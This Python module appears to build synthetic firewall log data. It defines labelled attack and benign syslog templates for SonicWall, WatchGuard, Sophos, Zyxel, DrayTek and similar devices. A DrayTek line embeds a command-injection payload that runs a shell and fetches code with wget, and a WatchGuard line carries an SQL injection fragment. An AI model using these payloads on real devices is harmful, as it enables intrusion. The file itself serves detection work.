"""Messages of firewalls that small offices have: SonicWall, WatchGuard, Sophos, Zyxel."""

from generator.families.network.product_story import catalogue

catalogue("network/product-sonicwall", ("=id=firewall sn={HEX} time=\"{plain}\" fw={wan9} pri={pri} c=32 {msg}", "=<129>id=firewall sn={HEX} time=\"{plain} UTC\" fw={wan9} pri={pri} {msg}", "|id=firewall time=\"{plain}\" pri={pri} {msg}"), r"""
DO m=25 msg="Possible SYN flood attack detected" src={wan}:{port}:X1 dst={wan2}:443:X1 note="{big} SYNs per second"
DO m=27 msg="Land attack dropped" src={wan}:{port}:X1 dst={wan}:{port}:X1
DO m=22 msg="Ping of death dropped" src={wan}::X1 dst={wan2}::X1
DO m=1213 msg="<<UDP|ICMP>> Flood Attack detected" src={wan} dst={wan2} n={big}
DO@T1498.002 m=25 msg="Smurf Amplification attack dropped" src={wan}::X1 dst={wan2}::X1
SP m=23 msg="IP spoof dropped" src={lan}:{port}:X1 dst={lan2}:445:X0 srcMac={mac} n={many}
PO m=82 msg="Possible port scan detected" src={wan}:{port}:X1 dst={wan2}:{port}:X1 note="TCP scanned port list, {port}, {big}, {id}"
PO m=83 msg="Probable port scan detected" src={any}:{port} dst={wan2}:{port} note="TCP scanned port list {port}"
BF# m=30 msg="Administrator login denied due to bad credentials" src={wan}:{port}:X1 dst={wan2}:443 usr="{adm}"
BF m=329 msg="User login denied - User lockout: maximum attempts exceeded" src={wan}:{port}:X1 usr="{adm}"
PS# m=33 msg="User login denied due to bad credentials" src={any}:{port}:X1 usr="{word}" note="SSLVPN"
RX m=608 msg="IPS Detection Alert: WEB-ATTACKS <<Apache Log4j2 JNDI Log Messages Remote Code Execution|Ivanti EPMM Authentication Bypass|Zyxel Command Injection>>" sid={id} ipscat=WEB-ATTACKS ipspri=1 src={wan}:{port}:X1 dst={lan}:443:X0
IX m=609 msg="IPS Prevention Alert: SMB <<EternalBlue|MS17-010 Transaction>> Exploit" sid={id} ipspri=1 src={lan}:{port}:X0 dst={lan2}:445:X0
C2 m=1198 msg="Botnet: Initiator from country {land} blocked: Suspected Botnet responder" src={lan}:{port}:X0 dst={wan}:443:X1 usr="{user}"
MW m=809 msg="Gateway Anti-Virus Alert: {mal} (Trojan) <<blocked.|detected, allowed by policy>>" src={wan}:80:X1 dst={lan}:{port}:X0 usr="{user}"
MW m=794 msg="Anti-Spyware Detection Alert: {word} (Trojan downloader)" spycat="{word}" spypri=1 src={lan}:{port}:X0 dst={wan}:80:X1
MW m=1590 msg="Capture ATP: file {file}.exe is malicious" src={wan} dst={lan} usr="{user}"
PT+ m=1382 msg="User added: {word}, group SonicWALL Administrators" usr="{adm}" src={wan}:{port}:X1
DE m=1382 msg="Configuration succeeded: logging to syslog server disabled" usr="{adm}" src={wan}:{port}:X1
FW+ m=1232 msg="Rule added WAN to LAN any any allow" usr="{adm}" src={wan}
AP@T1557 m=548 msg="Rogue Access Point found" srcMac={mac} note="SSID {ssid}, evil twin"
DO@T1499 m=549 msg="WLAN IDS: Deauthentication flood from {mac}" n={many}
AP@T1557.002 m=847 msg="ARP attack detected: gateway {lan} claimed by {mac}" n={many}
""", r"""
SY m=137 msg="Wan IP Changed:{wan2}"
SY m=53 msg="The cache is full; {big} open connections; some will be dropped"
SY m=58 msg="License exceeded: Connection dropped because too many IP addresses are in use on your LAN"
SY m=4 msg="SonicWall activated"
SY m=164 msg="Sending primary heartbeat failed, HA peer firewall not responding"
SY m=146 msg="Backup firewall has transitioned to Active"
SY m=152 msg="Error synchronizing HA peer firewall (reboot)"
SY m=1149 msg="Power supply without redundancy"
SY m=565 msg="Interface X{few} Link Is Down"
SY m=566 msg="Interface X{few} Link Is Up"
SY m=435 msg="Network Modem mode disabled, WAN failover to X2"
SY m=326 msg="Probing failure on X1"
SY m=1391 msg="CPU thermal warning {pct} degrees"
NS m=128 msg="PPPoE starting PAP Authentication"
NS m=131 msg="PPPoE LCP Link Down"
NS m=120 msg="DHCP lease dropped. Lease from Central Gateway conflicts" dst={lan}
NS m=1110 msg="Assigned IP address {lan}" dstMac={mac} host="{pc}"
NS m=14 msg="NTP request failed, no response from server" dst={wan}:123
NS m=483 msg="IKE Responder: Received notify: INVALID_ID_INFO" src={wan} dst={wan2}
NS m=346 msg="IKE Initiator: Start Quick Mode (Phase 2)." src={wan2} dst={wan}
NS m=65 msg="Illegal IPsec SPI" src={wan}::X1 dst={wan2}
NS m=1233 msg="Unhandled link-local or multicast IPv6 packet dropped" src={lan}
NS m=66 msg="Unknown SPI; IPsec authentication failed" src={wan}
NS m=533 msg="IPsec (ESP) packet dropped; waiting for pending IPsec connection"
BN m=36 msg="TCP connection dropped" src={wan}:{port}:X1 dst={wan2}:{port}:X1 rule="0 (WAN->LAN)"
BN m=38 msg="ICMP packet dropped due to policy" src={wan}::X1 dst={wan2} type=8
BN m=173 msg="TCP packet dropped; Non-SYN without connection" src={lan}:{port}:X0 dst={wan}:443:X1
BN m=713 msg="TCP checksum error; packet dropped" src={wan}:{port}:X1
BN m=14 msg="Web site access denied" src={lan}:{port}:X0 dst={wan}:443:X1 dstname={ext} code=64 Category="<<Not Rated|Gambling|Hacking/Proxy Avoidance|Personals and Dating>>" usr="{user}"
BN m=1199 msg="Responder from country blocked: Responder IP:{wan} Country Name:{land}" src={lan}:{port}:X0
BN. m=23 msg="IP spoof dropped" src=169.254.{n}.{n2}:{port}:X0 dst={lan}:137 srcMac={mac}
LO m=29 msg="Administrator login allowed" src={lan}:{port}:X0 usr="{adm}"
LO m=261 msg="User logged out - inactivity timer expired" src={lan} usr="{user}"
LO m=1080 msg="SSL VPN zone remote user login allowed" src={wan}::X1 usr="{user}"
MP. m=30 msg="Administrator login denied due to bad credentials" src={lan}:{port}:X0 usr="{adm}"
MP. m=33 msg="User login denied due to bad credentials" src={wan}:{port}:X1 usr="{user}"
MP. m=200 msg="User login failed - LDAP server timeout" usr="{user}"
AD m=1382 msg="Configuration succeeded: <<Address Object {word} added|NAT policy edited|Time zone changed|Syslog server {lan2} added>>" usr="{adm}" src={lan}:{port}:X0
AD m=1049 msg="System Setting Exported" usr="{adm}" src={lan}
UP m=157 msg="Received AV Alert: Your SonicWall Gateway Anti-Virus signature database updated successfully"
UP m=1160 msg="Received alert: Gateway Anti-Virus, Anti-Spyware and IPS service expires in {n} days"
BN m=608 msg="IPS Detection Alert: <<ICMP Echo Reply|INFO Microsoft CryptoAPI User-Agent|PROXY-ACCESS TeamViewer>>" sid={id} ipspri=3 src={lan}:{port}:X0 dst={wan}
AE m=1590 msg="Capture ATP: file {file}.pdf is clean" dst={lan} usr="{user}"
""")

catalogue("network/product-watchguard", ("|firewall: msg_id=\"3000-0148\" {msg}", "firewall|{msg}", "=<140>{ctime} {host} ({HEX}) {msg}"), r"""
DO msg_id="3000-0155" SYN flood attack detected from {wan} to {wan2}, {big} packets per second
DO msg_id="3000-0153" DDOS: <<client|server>> quota exceeded {wan} -> {wan2}, {big} connections/sec
DO msg_id="3000-0160" Deny 0-External Firebox land attack {wan} {wan}
PO msg_id="3000-0156" ip address space scan: {wan} scanned {n} addresses
PO msg_id="3000-0157" port space scan probe: {any} tried {many} ports on {wan2}
SP msg_id="3000-0168" Deny 0-External ip spoofing sites src={lan} dst={lan2}, {many} packets
RX Deny 0-External 1-Trusted tcp {wan} {lan} {port} 443 msg="ProxyDrop: HTTP IPS match" signature_name="<<WEB Apache Log4j JNDI RCE|WEB PHP-CGI Query String Command Execution|WEB Cisco IOS XE Web UI Privilege Escalation>>" severity="5" signature_cat="Access Control"
SQ Allow 0-External 1-Trusted tcp {wan} {lan} {port} 80 msg="ProxyAllow: HTTP IPS match" signature_name="WEB SQL injection attempt -6" severity="4" arg="/item.php?id=-1 union select"
C2 Deny 1-Trusted 0-External tcp {lan} {wan} {port} 443 msg="blocked sites (reason Botnet Detection)" src_user="{user}" pr_info="botnet site"
MW ProxyAllow: HTTP virus found virus="{mal}" host="{ext}" path="/{word}.exe" src_ip={lan}
MW ProxyDrop: SMTP APT threat detected md5="{long}" threat_level="high" task_uuid="{uuid}" file="{file}.doc" recipients="{mail}"
MW Threat Sync: host {pc} indicator score 9, process {odd} MD5 {long} on malware list, remediation failed
BF# admd msg_id="1100-0005" Authentication of ADMIN user [{adm}@Firebox-DB] from {wan} was rejected, password is incorrect
BF admd msg_id="1100-0012" User {adm} account temporarily locked out: {n} consecutive failed logins from {wan}
BF wgcgi msg_id="3E00-0004" Device Management user {adm} from {wan} log in attempt was rejected - maximum attempts exceeded, lockout
PS# msg_id="1100-0005" Authentication of SSLVPN user [{word}@RADIUS] from {any} was rejected, user does not exist
PT+ msg_id="0101-0001" Management user {word} (Device Administrator) added by {adm} from {wan}
FW+ msg_id="0101-0001" Configuration change: policy 'Any-External to Any-Trusted' added by {adm} from {wan}
DE msg_id="0101-0001" {adm} from {wan} disabled Intrusion Prevention, Gateway AntiVirus and logging to {lan}
PT+@T1542.001 msg_id="0F00-0015" Boot integrity check failed: unsigned firmware component /usr/bin/{word} is running
EX@T1048 ProxyAllow: FTP request STOR {file}.zip {huge} bytes {lan} -> {wan} DLP rule "customer data" matched, src_user="{user}"
""", r"""
BN Deny 0-External Firebox {n} tcp 20 {n2} {wan} {wan2} {port} {port} offset 7 S {id} win 1024 (Unhandled External Packet-00)
BN Deny 1-Trusted 0-External udp {lan} {wan} {port} 123 msg="denied" (Unhandled Internal Packet-00)
BN Deny 1-Trusted 0-External tcp {lan} {wan} {port} 80 msg="ProxyDeny: HTTP request categories" cats="<<Games|Adult Material|Hacking|Streaming Media>>" dstname="{ext}"
BN Deny 0-External Firebox tcp {wan} {wan2} {port} 22 msg="blocked sites" (Internal Policy) geo_src="{land}"
NT Allow 1-Trusted 0-External tcp {lan} {wan} {port} 443 msg="Application identified" app_name="Microsoft Teams" app_cat_name="Collaboration"
NS iked msg_id="0207-0001" ({wan2}<->{wan}) Drop phase 1 expired, retry timeout
NS iked msg_id="0203-0012" ({wan2}<->{wan}) 'gateway.{word}' Received an INVALID_SPI message
NS iked msg_id="021A-0001" 'tunnel.{word}' BOVPN IPSec tunnel is rekeyed
NS dhcpd: DHCPACK on {lan} to {mac} ({pc}) via eth1
NS sslvpn msg_id="2500-0000" Mobile VPN with SSL user {user} logged in. Virtual IP address is {lan}. Real IP address is {wan}.
NS networkd: PPPoE session terminated by peer, reconnecting
SY cluster msg_id="3800-0000" Cluster member {HEX} changed role from backup master to master
SY cluster msg_id="3600-0003" Monitored interface link down, failover initiated
SY msg_id="2900-0003" Interface link status changed [eth{few}] down
SY msg_id="3100-0001" Temperature of CPU {pct} C exceeds warning limit
SY msg_id="3000-0151" Maximum number of connections {big} reached, NAT table full
SY msg_id="0A00-0001" Certificate {hex} expires in {n} days
SY msg_id="4100-0003" WAN failover: eth0 failed link monitor target {wan}
UP sigd msg_id="2E02-0065" Signature update for <<IPS|GAV|Botnet|APP>> completed, version {ver}
UP sigd msg_id="2E02-0067" Signature update for GAV failed: cannot contact server
LO wgcgi msg_id="3E00-0002" Device Management user {adm}@Firebox-DB from {any} logged in
LO admd msg_id="1100-0004" Authentication of Firewall user [{user}@{domain}] from {lan} was accepted
MP. admd msg_id="1100-0005" Authentication of Firewall user [{user}@{domain}] from {any} was rejected, password is incorrect
MP. wgcgi msg_id="3E00-0004" Device Management user {adm} from {lan} log in attempt was rejected - Invalid credentials.
AD msg_id="0101-0001" Configuration change: policy '<<HTTPS-Proxy|Guest-WLAN|SMTP-out>>' modified by {adm} from {any}
AD msg_id="0101-0001" Management user {user} (Device Monitor) added by {adm} from {lan}
BA msg_id="0101-0020" Configuration backup image saved to USB by {adm}
AE APT: file {file}.pdf md5="{long}" analyzed, no threat
AE spamBlocker: message from {out} to {mail} tagged bulk
MO msg_id="3000-0152" ping from monitoring {lan} answered
SY dnswatch msg_id="1C00-0001" DNSWatch service connection error, will retry
""")

catalogue("network/product-sophos-firewall", ("=device=\"SFW\" date={date} time={time} timezone=\"CET\" device_name=\"XGS\" device_id={HEX} {msg}", "|{msg}", "=<30>{date}T{time} {host} {msg}"), r"""
C2 log_type="ATP" log_component="Firewall" log_subtype="<<Drop|Alert>>" user_name="{user}" src_ip={lan} dst_ip={wan} url="{ext}" threatname="C2/Generic-{word}" malware="C2/Generic-A" execution_path="{odd}" priority=Warning
C2 id="2101" severity="warn" sys="SecureNet" sub="packetfilter" name="Advanced Threat Protection: C2/Generic-A alert" action="<<drop|alert>>" srcip="{lan}" dstip="{wan}" threatname="C2/Zbot-A"
RX log_type="IDP" log_component="Signatures" log_subtype="<<Detect|Drop>>" signature_id={id} signature_msg="<<SERVER-WEBAPP Sophos XG Firewall User Portal code injection attempt|SERVER-OTHER Apache Log4j logging remote code execution attempt|SERVER-WEBAPP PHPUnit eval-stdin RCE>>" classification="Attempted Administrator Privilege Gain" rule_priority=1 src_ip={wan} dst_ip={lan}
RX id="2101" severity="warn" sys="SecureNet" sub="ips" name="Intrusion protection alert" action="<<alert|drop>>" reason="SERVER-WEBAPP Netgear setup.cgi remote command execution attempt" group="500" srcip="{wan}" dstip="{lan}" sid="{id}" class="Attempted Administrator Privilege Gain" priority="1"
MW log_type="Anti-Virus" log_component="HTTP" log_subtype="Virus" fw_rule_id={n} user_name="{user}" virus="{mal}" url="http://{ext}/{word}.zip" src_ip={lan} FileName="{file}.zip" status="detected"
MW log_type="Sandbox" log_component="Mail" log_subtype="Denied" status="malicious" FileName="{file}.xlsm" recipient={mail} sender={out} reason="eligible"
RW log_type="Heartbeat" log_component="Endpoint" log_subtype="Information" status="Red" endpoint_name="{pc}" login_user="{user}" message="CryptoGuard detected ransomware in {odd}"
MW log_type="Heartbeat" log_component="Endpoint" status="Red" endpoint_name="{pc}" process_user="{user}" message="Malware {mal} not cleaned up"
DO log_type="Firewall" log_component="DoS Attack" log_subtype="Denied" message="<<SYN|UDP|ICMP>> flood from {wan} dropped" src_ip={wan} dst_ip={wan2} packets={big}
DO id="2105" severity="info" sys="SecureNet" sub="packetfilter" name="<<SYN|UDP|ICMP>> flood detected" action="SYN flood" srcip="{wan}" dstip="{wan2}" count="{big}"
PO id="2103" severity="warn" sys="SecureNet" sub="packetfilter" name="Portscan detected" action="portscan" srcip="{wan}" dstip="{wan2}" proto="6" dstport="{port}"
SP log_type="Firewall" log_component="Invalid Traffic" log_subtype="Denied" message="IP-MAC spoof: {lan} used by {mac}, trusted {mac2}, {many} frames"
BF# log_type="Event" log_component="GUI" log_subtype="Admin" status="Failed" user_name="{adm}" src_ip={wan} message="User '{adm}' failed to login from '{wan}' using 'https' because of wrong credentials"
BF log_type="Event" log_component="CLI" log_subtype="Admin" status="Failed" src_ip={wan} message="IP address {wan} blocked for 30 minutes after {n} failed administrator logins (ssh)"
BF# id="3005" severity="warn" sys="System" sub="auth" name="Authentication failed" srcip="{wan}" host="" user="{adm}" caller="<<webadmin|portal|sshd>>" reason="DENIED"
BF id="3006" severity="warn" sys="System" sub="auth" name="Too many failed logins" srcip="{wan}" caller="webadmin" blocked="600"
PS# log_type="Event" log_component="SSL VPN Authentication" log_subtype="Authentication" status="Failed" user_name="{word}" src_ip={any} message="User {word} failed to login to SSL VPN through AD authentication mechanism because of wrong credentials"
PT+ log_type="Event" log_component="GUI" log_subtype="Admin" status="Successful" user_name="{adm}" src_ip={wan} message="User '{word}' of profile 'Administrator' was added by '{adm}' from '{wan}' using 'CLI'"
DE log_type="Event" log_component="GUI" status="Successful" user_name="{adm}" src_ip={wan} message="Syslog server '{lan}' was deleted, IPS protection turned off by '{adm}'"
PH- log_type="Content Filtering" log_component="HTTP" log_subtype="Denied" category="Phishing & Fraud" url="https://{ext}/paypal/verify" user_name="{user}" message="access denied by policy"
AP@T1557 id="4102" severity="warn" sys="System" sub="wifi" name="Rogue AP detected" ssid="{ssid}" bssid="{mac}" reason="same SSID as own network, unknown BSSID"
""", r"""
BN log_type="Firewall" log_component="Firewall Rule" log_subtype="Denied" fw_rule_id=0 src_ip={wan} dst_ip={wan2} protocol="TCP" dst_port={port} src_country="{land}"
BN log_type="Firewall" log_component="Invalid Traffic" log_subtype="Denied" message="Could not associate packet to any connection." src_ip={lan} dst_ip={wan}
BN id="2001" severity="info" sys="SecureNet" sub="packetfilter" name="Packet dropped" action="drop" fwrule="60001" initf="eth1" srcip="{wan}" dstip="{wan2}" proto="6" dstport="{port}" tcpflags="SYN"
BN id="0066" severity="info" sys="SecureWeb" sub="http" name="web request blocked, forbidden category detected" action="block" srcip="{lan}" user="{user}" url="http://{ext}/" categoryname="<<Gambling|Hacking|Spam URLs|Anonymizers>>"
BN log_type="Anti-Spam" log_component="SMTP" log_subtype="Spam" reason="Mail detected as SPAM, quarantined" from_email_address={out} to_email_address={mail} spamaction="QUARANTINE"
BN log_type="IDP" log_component="Signatures" log_subtype="Detect" signature_msg="<<PROTOCOL-ICMP unusual PING detected|POLICY-OTHER TeamViewer remote administration tool|BROWSER-OTHER HTTP characters prior to header>>" classification="Misc activity" rule_priority=3 src_ip={lan}
NT log_type="Firewall" log_component="Firewall Rule" log_subtype="Allowed" fw_rule_id={n} user_name="{user}" src_ip={lan} dst_ip={wan} dst_port=443 app_name="Office365"
NT id="0001" severity="info" sys="SecureWeb" sub="http" name="http access" action="pass" method="GET" srcip="{lan}" statuscode="200" url="https://{ext}/" size="{big}"
AE log_type="Anti-Virus" log_component="HTTP" log_subtype="Allowed" FileName="{file}.zip" message="File is encrypted, not scanned" src_ip={lan}
AE log_type="Sandbox" log_component="Mail" log_subtype="Allowed" status="clean" FileName="{file}.docx" recipient={mail}
SY log_type="Heartbeat" log_component="Endpoint" log_subtype="Information" status="Green" endpoint_name="{pc}" login_user="{user}"
SY log_type="Heartbeat" log_component="Endpoint" status="Missing" endpoint_name="{pc}" message="Heartbeat missing, endpoint went to sleep"
SY log_type="Event" log_component="HA" status="Failed" message="Auxiliary appliance went to fault state: monitored port down"
SY log_type="Event" log_component="Interface" message="Interface Port{few} changed from UP to DOWN"
SY log_type="System Health" log_component="Disk" log_subtype="Usage" Configuration={pct}% Reports={pct}% Signature={pct}%
SY id="3501" severity="crit" sys="System" sub="ups" name="UPS on battery"
SY log_type="Event" log_component="Gateway" status="Dead" message="Gateway WAN2 is Down"
NS log_type="Event" log_component="IPSec" status="Failed" con_name="{word}" message="{word} - Couldn't authenticate the remote gateway, preshared key mismatch (Remote: {wan})"
NS log_type="Event" log_component="IPSec" status="Expire" con_name="{word}" message="Child SA re-keyed"
NS log_type="Event" log_component="DHCP Server" status="Renew" src_mac={mac} message="Lease {lan} renewed"
NS log_type="Event" log_component="DDNS" status="Failed" message="DDNS update for {ext} failed"
LO log_type="Event" log_component="GUI" log_subtype="Admin" status="Successful" user_name="{adm}" src_ip={any} message="User '{adm}' logged in successfully to Web Admin Console"
LO log_type="Event" log_component="SSL VPN" log_subtype="System" status="Established" user_name="{user}" remote_ip={wan} message="SSL VPN User '{user}' connected"
LO id="3004" severity="info" sys="System" sub="auth" name="Authentication successful" srcip="{lan}" user="{adm}" caller="webadmin" engine="local"
MP. log_type="Event" log_component="GUI" log_subtype="Admin" status="Failed" user_name="{adm}" src_ip={lan} message="User '{adm}' failed to login from '{lan}' using 'https' because of wrong credentials"
MP. id="3005" severity="warn" sys="System" sub="auth" name="Authentication failed" srcip="{any}" user="{user}" caller="portal" reason="DENIED"
AD log_type="Event" log_component="GUI" log_subtype="Admin" status="Successful" user_name="{adm}" src_ip={lan} message="<<Firewall Rule|IP Host|Web Policy|VPN connection>> '{word}' was updated by '{adm}' from '{lan}' using 'GUI'"
AD log_type="Event" log_component="GUI" status="Successful" user_name="{adm}" src_ip={lan} message="User '{user}' of group 'Open Group' was added by '{adm}'"
UP log_type="Event" log_component="Up2Date" status="Successful" message="<<IPS and Application signatures|Avira AV|Sophos AV>> definitions upgraded from {ver} to {ver}"
UP id="3710" severity="warn" sys="System" sub="up2date" name="Pattern up2date failed: no connection to server"
BA log_type="Event" log_component="Backup" status="Successful" message="Scheduled backup sent to {mail}"
SY log_type="Event" log_component="Licence" message="Network Protection subscription expires in {n} days" priority=Critical
""")

catalogue("network/product-zyxel-draytek-lancom", ("|{msg}", "=<188>{time} {host} {msg}", "=<141>{plain} {host}: {msg}"), r"""
BF# src="{wan}:0" dst="0.0.0.0:0" msg="Failed login attempt to Device from <<http/https|ssh>> (incorrect password or inexistent username)" note="Account: {adm}" user="{adm}" devID="{hex}" cat="User"
BF src="{wan}:0" msg="Failed login attempt to Device from <<http/https|ssh|ftp>> (maximum failed attempts, address is locked out)" note="Account: {adm}" cat="User"
PT+ src="{wan}" msg="Administrator <<zyxel_sllvpn|zyxel_ts|{word}>> has been added by unknown session" note="Account: {adm}" cat="User"
RX src="{wan}:{port}" dst="{wan2}:500" msg="IKE: <<packet with command in transform payload|overflow in notify payload>>, process sshipsecpm restarted" cat="IKE"
DO src="{wan}" dst="{wan2}" msg="from WAN to ZyWALL, <<tcp-syn-flood|udp-flood|ping-of-death|land attack>>, Action: Block, count {big}" note="ADP" cat="ADP"
PO src="{wan}" dst="{wan2}" msg="from Any to Any, [type=Scan-Detection(8910008)] <<tcp-portscan|tcp-portsweep|udp-portscan>> Action: Block Severity: medium" cat="ADP"
MW src="{wan}:80" dst="{lan}:{port}" msg="Virus infected SSI:N Type:Anti-Virus Virus:{mal} File:{file}.exe Protocol:HTTP md5:{long}" note="FILE DESTROY" cat="Anti-Virus"
C2 src="{lan}:{port}" dst="{wan}:443" msg="{ext}: Botnet C&C detected, Rule_name:default, SSI:N" note="ACCESS <<BLOCK|FORWARD>>" cat="Reputation Filter"
DO [DOS][Block][<<syn_flood|udp_flood|icmp_flood|land|smurf|teardrop>>][{wan}:{port}->{wan2}:443][TCP][HLen=20, TLen=60, Flag=S, Seq={id}] repeated {big} times
PO [DOS][Block][port_scan][{wan}:{port}->{wan2}:{port}][TCP][HLen=20, TLen=40]
BF# DrayTek: Local User (WAN): Web login failed from {any}, user {adm}
BF DrayTek: IP {wan} is locked by brute force protection: {n} fail times of telnet/SSH/web
PT+ DrayTek: Remote dial-in profile {word} created from WAN {wan}, admin page cgi-bin/mainfunction.cgi
CI DrayTek: /cgi-bin/mainfunction.cgi?action=login&keyPath=%27%0A/bin/sh${IFS}-c${IFS}wget{wan} from {wan2}
BF# [AUTH] Login attempt to device via <<WEBconfig|SSH|LANconfig>> from {wan} for user {adm} failed
BF [LOCK] Configuration login locked for 5 minutes after {n} wrong passwords from {wan} (SSH)
DO [IDS] Intrusion Detection: SYN flood from {wan} to {wan2}, threshold exceeded, address blocked
PO [IDS] Intrusion Detection: port scan from {wan} to {wan2}, threshold exceeded, address blocked
PT+ [CFG] New administrator {word} (supervisor rights) set from WAN address {wan}
FW+ [CFG] Firewall rule ALLOW-ALL inserted at top from WAN address {wan} by {adm}
DO Omada: Gateway detected TCP SYN packet flood attack and dropped {big} packets from {wan}.
BF# Omada: Failed to log in to controller with account {adm} from {any}
""", r"""
LO src="{lan}:0" msg="Administrator {adm} from http/https has logged in Device" note="Account: {adm}" cat="User"
LO src="{lan}:0" msg="User {user} from l2tp has logged out Device" note="Account: {user}" cat="User"
MP. src="{lan}:0" msg="Failed login attempt to Device from http/https (incorrect password or inexistent username)" note="Account: {adm}" cat="User"
BN src="{wan}:{port}" dst="{wan2}:{port}" msg="priority:1, from WAN to ZyWALL, TCP, service others, DROP" note="ACCESS BLOCK" cat="Security Policy Control"
BN src="{lan}" dst="{wan}" msg="{ext}: <<Gambling|Hacking|Advertisements & Pop-Ups>>, Rule_name:Office, SSI:N" note="WEB BLOCK" cat="Content Filter"
BN src="{wan}" dst="{wan2}" msg="from WAN to ZyWALL, TCP, abnormal TCP flag attack detected, DROP" cat="Firewall"
NS src="{wan}" msg="[SA] : Tunnel [{word}] Phase 1 proposal mismatch" cat="IKE"
NS msg="Tunnel [{word}:{word}:0x{hex}] rekeyed successfully" cat="IKE"
NS msg="DHCP server assigned {lan} to {pc}({mac})" note="DHCP ACK" cat="DHCP"
SY msg="Interface wan{few} is link down." cat="Interface"
SY msg="Device HA: backup becomes active" cat="Device HA"
SY msg="CPU usage reaches {pct}% over threshold" cat="System"
UP msg="Anti-Virus signature update has succeeded, version {ver}" cat="File Manager"
AD src="{lan}" msg="<<Firewall|Interface|Address object>> rule {n} has been modified." note="{adm}" cat="Configuration"
NS DrayTek: WAN1 PPPoE <== V:1 T:1 PADS ID:{many}
NS DrayTek: [H2L][DOWN][L2TP][@{few}:{user}] Remote host closed
NS DrayTek: IKE <==, Next Payload=ISAKMP_NEXT_N, Exchange Type = 0x5, Message ID = 0x{hex}: DPD
NS DrayTek: Local User: {lan} DNS -> {wan} inquire {ext}
SY DrayTek: WAN 1 is down. Detected by ping target {wan}
SY DrayTek: NAT session table full ({big}), new session refused
BN DrayTek: [FILTER][Block][LAN/RT/VPN->WAN, {n}:{n2}][@S:R=2:7, {lan}:{port}->{wan}:25][TCP]
BN DrayTek: [CSM][URL/Web Block][{lan}][Social Networking][{ext}]
LO [AUTH] Login to device via WEBconfig from {any} for user {adm} succeeded
MP. [AUTH] Login attempt to device via WEBconfig from {any} for user {adm} failed
NS [VPN] for peer {word}: IKE R-Error: no proposal chosen (0x2026), retry in 60 s
NS [VPN] WAN state changed to WAN call for {word} <{wan}>
SY [Interface] WAN-1 DSL link lost, sync restarted, {big} kbit/s downstream
SY [HARDWARE] Temperature {pct} degree, limit exceeded
AD [CFG] Setup/IP-Router changed by {adm} via SSH from {any}
UP [FW] Firmware {ver} uploaded by LMC, testing mode, reboot
AE [WLAN] Client {mac} deauthenticated, reason 4 (inactivity)
BN Netgear: [DoS attack: <<ACK Scan|SYN/ACK Scan|RST Scan|NULL Scan|FIN Scan|TCP/UDP Chargen|UDP Port Scan>>] from source: {wan}, port {port}, {time}
NS Netgear: [Time synchronized with NTP server] {time}
NS Netgear: [DHCP IP: ({lan})] to MAC address {mac}
BN Netgear: [site blocked: {ext}] from source {lan}, {time}
AD Netgear: [Admin login] from source {lan}, {time}
SY Netgear: [Internet disconnected] {time}
SY Omada: {host} was disconnected. Reason: device heartbeat lost
AE Omada: [client:{mac}] is connected to [ap:{host}] with SSID "{ssid}" on channel 11.
AE Omada: [client:{mac}] failed to connect to SSID "{ssid}" because the password was wrong.
AD Omada: {adm} logged in to the controller from {any}
""")
